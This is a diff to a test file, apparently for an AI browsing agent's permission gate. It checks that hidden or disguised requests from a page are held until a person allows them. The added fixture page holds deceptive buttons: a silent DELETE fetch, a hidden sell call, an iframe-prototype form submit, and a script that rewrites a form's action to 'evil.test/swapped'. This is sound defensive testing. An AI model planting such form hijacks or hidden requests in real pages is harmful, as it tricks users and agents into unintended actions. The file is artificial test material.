@@ -19,11 +19,16 @@ const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
 <button onclick="document.querySelector('form').submit()">Tab</button>
 <button onclick="document.forms[1].submit()">Plain</button><form method="post" action="/send-it" target="elsewhere"><input type="hidden" name="a" value="b"></form>
 <form method="post" action="/plain"></form>
+<button onclick="fetch('/api/items/' + 7, { method: 'DELETE' })">Tidy</button>
+<button onclick="fetch('/api/' + 'sell?id=7', { method: 'POST' })">Wave</button>
+<button onclick="frames[0].HTMLFormElement.prototype.submit.call(document.forms[1])">Frame</button><iframe srcdoc="<p>Frame"></iframe>
+<form id="quick" role="search" action="/found"><button>Look up</button></form><form method="post" action="/noted"><button>Keep</button></form>
 <form method="post" action="/chosen"><label>Size <select><option>Small</option><option>Large</option></select></label><label>Code <input></label>
 <label><input type="checkbox"> Gift</label></form>
 <form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
 <script>
-  const [, , chosen, found] = document.forms;
+  const [, , quick, , chosen, found] = document.forms;
+  quick.addEventListener('submit', () => Object.assign(quick, { method: 'post', action: 'http://evil.test/swapped' }));
   chosen.querySelector('select').addEventListener('change', () => chosen.requestSubmit());
   chosen.querySelector('input').addEventListener('input', () => chosen.submit());
   chosen.querySelector('[type=checkbox]').addEventListener('change', () => HTMLFormElement.prototype.submit.call(chosen));
@@ -51,13 +56,12 @@ async function scene(button: string, strict: Settings['strict']['where'] = 'nowh
   });
 }
 
-test.each(['More', 'Later', 'Tab'])('the task stops when “%s” sends what it does not say', async (button) => {
+test.each(['More', 'Later'])('the task stops when “%s” sends what it does not say', async (button) => {
   const shown = await scene(button);
   server.answer(press(button), call('wait', { seconds: 1 }), say('Done.'));
   const last = await shown.ask('Show me more');
-  const path = button === 'Tab' ? 'send-it' : 'api/place-order';
-  expect(last).toContain(`POST http://shop.test/${path}`);
-  expect(arrived[0]).toBe(`POST shop.test/${path}`);
+  expect(last).toContain('POST http://shop.test/api/place-order');
+  expect(arrived[0]).toBe('POST shop.test/api/place-order');
   expect((await shown.turns()).at(-2)).toMatchObject({ type: 'browser' });
 });
 
@@ -79,6 +83,42 @@ test('a request that names no deed is shown with its step, and stops nothing', a
   await shown.panel.locator('.step').first().locator('summary').click();
   expect(await shown.panel.locator('.details').first().innerText()).toContain('POST http://shop.test/api/views');
   expect(await shown.panel.getByText('Sites of this task: shop.test').count()).toBe(1);
+});
+
+test.each([
+  ['Tab', 'POST shop.test/send-it'],
+  ['Plain', 'POST shop.test/plain'],
+  ['Look up', 'POST evil.test/swapped'],
+  ['Tidy', 'DELETE shop.test/api/items/7'],
+  ['Wave', 'POST shop.test/api/sell'],
+])('what nothing on “%s” announces does not arrive before a person allows it', async (button, sent) => {
+  const denied = await scene(button);
+  server.answer(press(button), say('Done.'));
+  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
+  expect(question, await denied.story()).toContain(sent.replace(' ', ' http://'));
+  expect(arrived).toEqual([]);
+  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');
+
+  const allowed = await scene(button);
+  server.answer(press(button), say('Done.'));
+  await askAndAnswer(allowed, 'Show me more', [true]);
+  expect(arrived).toEqual([sent]);
+});
+
+test('a form that a script sends with functions of a new frame is held back by the browser', async () => {
+  const denied = await scene('Frame');
+  server.answer(press('Frame'), say('Done.'));
+  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
+  expect(question, await denied.story()).toContain('POST http://shop.test/plain');
+  expect(arrived).toEqual([]);
+  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');
+});
+
+test('a form that is pressed is sent to the address that it shows', async () => {
+  const shown = await scene('Keep');
+  server.answer(press('Keep'), say('Done.'));
+  expect(await askAndAnswer(shown, 'Keep it', []), await shown.story()).toEqual([]);
+  expect(arrived).toEqual(['POST shop.test/noted']);
 });
 
 test.each([
